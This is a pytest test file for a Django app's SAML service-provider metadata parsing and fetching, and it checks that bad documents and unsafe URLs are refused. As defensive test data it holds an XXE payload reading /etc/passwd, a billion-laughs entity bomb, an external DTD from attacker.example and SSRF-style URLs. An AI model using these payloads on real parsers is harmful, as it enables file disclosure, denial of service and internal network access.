"""SAML service-provider metadata: read with pysaml2 behind defusedxml, fetched through the safe
sender; every bad document refused with a message that says why (SAML 2.0 Metadata §2)."""

from __future__ import annotations

from collections.abc import Iterator
from http import HTTPStatus

import pytest
from django.core.exceptions import ValidationError

from oauth_clients import saml_metadata
from oauth_clients.models import SamlServiceProvider
from tests.clients.saml_helpers import (
    BINDING_POST,
    BINDING_REDIRECT,
    IDP_ONLY_METADATA,
    NAMEID_PERSISTENT,
    SP_ACS_URL,
    SP_ENTITY_ID,
    SP_SLO_URL,
    MetadataServer,
    aggregate,
    make_sp_keys,
    sp_metadata,
)

SPEC = "SAML 2.0 Metadata"


@pytest.fixture
def keys(tmp_path):
    return make_sp_keys(tmp_path)


@pytest.fixture
def metadata(keys) -> bytes:
    return sp_metadata(keys)


@pytest.fixture
def server() -> Iterator[MetadataServer]:
    published = MetadataServer()
    yield published
    published.close()


def refusal(xml: bytes, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as refused:
        saml_metadata.parse_sp_metadata(xml, **kwargs)
    return refused.value


# --- reading


@pytest.mark.spec(SPEC, "2.4.4")
def test_metadata_written_by_pysaml2_as_an_sp_is_read(db, keys, metadata):
    read = saml_metadata.parse_sp_metadata(metadata)

    assert read.entity_id == SP_ENTITY_ID
    (acs,) = read.acs_urls
    assert (acs["url"], acs["binding"]) == (SP_ACS_URL, BINDING_POST)
    assert isinstance(acs["index"], int)
    assert (read.slo_url, read.slo_binding) == (SP_SLO_URL, BINDING_REDIRECT)
    assert read.certificates == [keys.cert_pem]
    assert read.authn_requests_signed is True
    assert read.nameid_format == NAMEID_PERSISTENT
    assert (
        saml_metadata.sp_errors(
            {
                "entity_id": read.entity_id,
                "acs_urls": read.acs_urls,
                "certificates": "".join(read.certificates),
            }
        )
        == {}
    )


def test_requests_signed_false_and_an_unknown_nameid_format_are_read_as_such(keys):
    read = saml_metadata.parse_sp_metadata(
        sp_metadata(
            keys,
            authn_requests_signed=False,
            name_id_format="urn:oasis:names:tc:SAML:2.0:nameid-format:kerberos",
        )
    )
    assert read.authn_requests_signed is False
    assert read.nameid_format is None  # none this IdP offers: the registration's default


@pytest.mark.spec(SPEC, "2.3.1")
def test_an_aggregate_of_several_sps_needs_an_entity_id_to_choose_one(keys, tmp_path):
    other = sp_metadata(
        make_sp_keys(tmp_path, "tickets"),
        entity_id="https://tickets.example.com/saml",
        acs_url="https://tickets.example.com/acs",
    )
    single = aggregate(sp_metadata(keys))
    assert saml_metadata.parse_sp_metadata(single).entity_id == SP_ENTITY_ID
    both = aggregate(sp_metadata(keys), other)
    chosen = saml_metadata.parse_sp_metadata(both, entity_id="https://tickets.example.com/saml")
    assert chosen.acs_urls[0]["url"] == "https://tickets.example.com/acs"

    error = refusal(both)
    assert error.code == "several_sps"
    assert "choose one" in error.messages[0]
    assert refusal(both, entity_id="https://nobody.example.com").code == "unknown_entity"


def test_identity_provider_metadata_is_refused(metadata):
    assert saml_metadata.parse_sp_metadata(metadata)
    error = refusal(IDP_ONLY_METADATA)
    assert error.code == "idp_metadata"
    assert "identity provider" in error.messages[0]


# --- attacks on the parser


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&xxe;">
</md:EntityDescriptor>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&lol9;"/>"""

DTD_ONLY = b"""<?xml version="1.0"?>
<!DOCTYPE md:EntityDescriptor SYSTEM "http://attacker.example/evil.dtd">
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x"/>"""


@pytest.mark.parametrize(
    "document", [XXE, BILLION_LAUGHS, DTD_ONLY], ids=["xxe", "billion-laughs", "external-dtd"]
)
def test_dtds_and_entities_are_refused_before_anything_is_expanded(metadata, document):
    assert saml_metadata.parse_sp_metadata(metadata).entity_id == SP_ENTITY_ID
    error = refusal(document)
    assert error.code == "xml_forbidden"
    assert "DTD or XML entities" in error.messages[0]


def test_a_document_over_one_mebibyte_is_refused_unparsed(metadata):
    # A comment after the root element: well-formed XML, and 2 MiB of it.
    padded = metadata + b"<!--" + b"x" * 2 * 1024 * 1024 + b"-->"
    assert len(padded) > 2 * 1024 * 1024
    error = refusal(padded)
    assert error.code == "too_large"
    assert "1024 KiB" in error.messages[0]


@pytest.mark.parametrize(
    ("document", "code"),
    [
        (b"this is not xml", "not_xml"),
        (b"", "not_xml"),
        (b"<html><body>Sign in</body></html>", "not_metadata"),
        (
            b'<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" '
            b'entityID="https://x.example.com"/>',
            "no_sp",
        ),
    ],
    ids=["text", "empty", "html", "no-sp-descriptor"],
)
def test_documents_that_are_not_sp_metadata_are_refused(metadata, document, code):
    assert saml_metadata.parse_sp_metadata(metadata)
    error = refusal(document)
    assert error.code == code
    assert error.messages[0]


# --- the registration rules


def test_acs_rules_https_exact_and_one_http_post_endpoint(metadata):
    good = saml_metadata.parse_sp_metadata(metadata).acs_urls
    assert saml_metadata.acs_errors(good) == []
    loopback = [{**good[0], "url": "http://127.0.0.1:8080/acs"}]
    assert saml_metadata.acs_errors(loopback) == []
    for url in ("http://wiki.example.com/acs", "https://wiki.example.com/acs#x", "javascript:x"):
        assert saml_metadata.acs_errors([{**good[0], "url": url}]), url
    redirect_only = [{**good[0], "binding": BINDING_REDIRECT}]
    assert "HTTP-POST" in saml_metadata.acs_errors(redirect_only)[0]
    twice = [good[0], {**good[0], "url": "https://wiki.example.com/acs2"}]
    assert "index" in " ".join(saml_metadata.acs_errors(twice))


def test_certificates_are_read_as_pem_and_garbage_is_refused(keys):
    assert saml_metadata.read_certificates(keys.cert_pem) == [keys.cert_pem]
    body = "".join(keys.cert_pem.splitlines()[1:-1])
    assert saml_metadata.read_certificates(body) == [keys.cert_pem]
    with pytest.raises(ValidationError):
        saml_metadata.read_certificates(
            "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----"
        )
    with pytest.raises(ValidationError):
        saml_metadata.read_certificates("not a certificate")


def test_a_nameid_format_outside_the_offered_four_is_refused(db):
    assert SamlServiceProvider.NameIdFormat.TRANSIENT in SamlServiceProvider.NameIdFormat.values
    errors = saml_metadata.sp_errors({"entity_id": "x", "nameid_format": "urn:x"})
    assert "nameid_format" in errors


# --- fetching through the safe sender


def test_metadata_is_fetched_from_loopback_only_when_the_app_may_call_private_addresses(
    server, metadata
):
    url = server.publish("/saml/metadata", metadata)
    fetched = saml_metadata.fetch_sp_metadata(url, allow_private_network=True, timeout=2)
    assert fetched == metadata

    with pytest.raises(ValidationError) as refused:
        saml_metadata.fetch_sp_metadata(url, allow_private_network=False, timeout=2)
    assert "internal" in refused.value.messages[0]
    assert server.requests == ["/saml/metadata"]  # the refused fetch sent nothing


@pytest.mark.parametrize(
    ("status", "headers", "message"),
    [
        (HTTPStatus.FOUND, {"Location": "https://elsewhere.example.com/md"}, "redirect"),
        (HTTPStatus.NOT_FOUND, {}, "HTTP 404"),
    ],
)
def test_redirects_and_errors_are_not_metadata(server, metadata, status, headers, message):
    assert saml_metadata.fetch_sp_metadata(
        server.publish("/ok", metadata), allow_private_network=True, timeout=2
    )
    url = server.publish("/bad", b"", status, **headers)
    with pytest.raises(ValidationError) as refused:
        saml_metadata.fetch_sp_metadata(url, allow_private_network=True, timeout=2)
    assert message in refused.value.messages[0]


def test_an_oversized_answer_is_cut_off_and_refused(server, metadata):
    assert saml_metadata.fetch_sp_metadata(
        server.publish("/ok", metadata), allow_private_network=True, timeout=2
    )
    url = server.publish("/huge", b"<x>" + b" " * (2 * 1024 * 1024) + b"</x>")
    with pytest.raises(ValidationError) as refused:
        saml_metadata.fetch_sp_metadata(url, allow_private_network=True, timeout=5)
    assert refused.value.code == "too_large"


@pytest.mark.parametrize(
    "url",
    [
        "http://sp.example.com/metadata",  # plain http off loopback
        "ftp://sp.example.com/metadata",
        "https://user:pw@sp.example.com/metadata",
        "file:///etc/passwd",
    ],
)
def test_metadata_urls_must_be_https(url):
    with pytest.raises(ValidationError) as refused:
        saml_metadata.fetch_sp_metadata(url, resolver=lambda host: ["93.184.216.34"], timeout=1)
    assert refused.value.code == "invalid_url"


def test_a_public_name_that_resolves_to_a_private_address_is_refused(metadata):
    with pytest.raises(ValidationError) as refused:
        saml_metadata.fetch_sp_metadata(
            "https://sp.example.com/metadata", resolver=lambda host: ["10.0.0.5"], timeout=1
        )
    assert "10.0.0.5" in refused.value.messages[0]
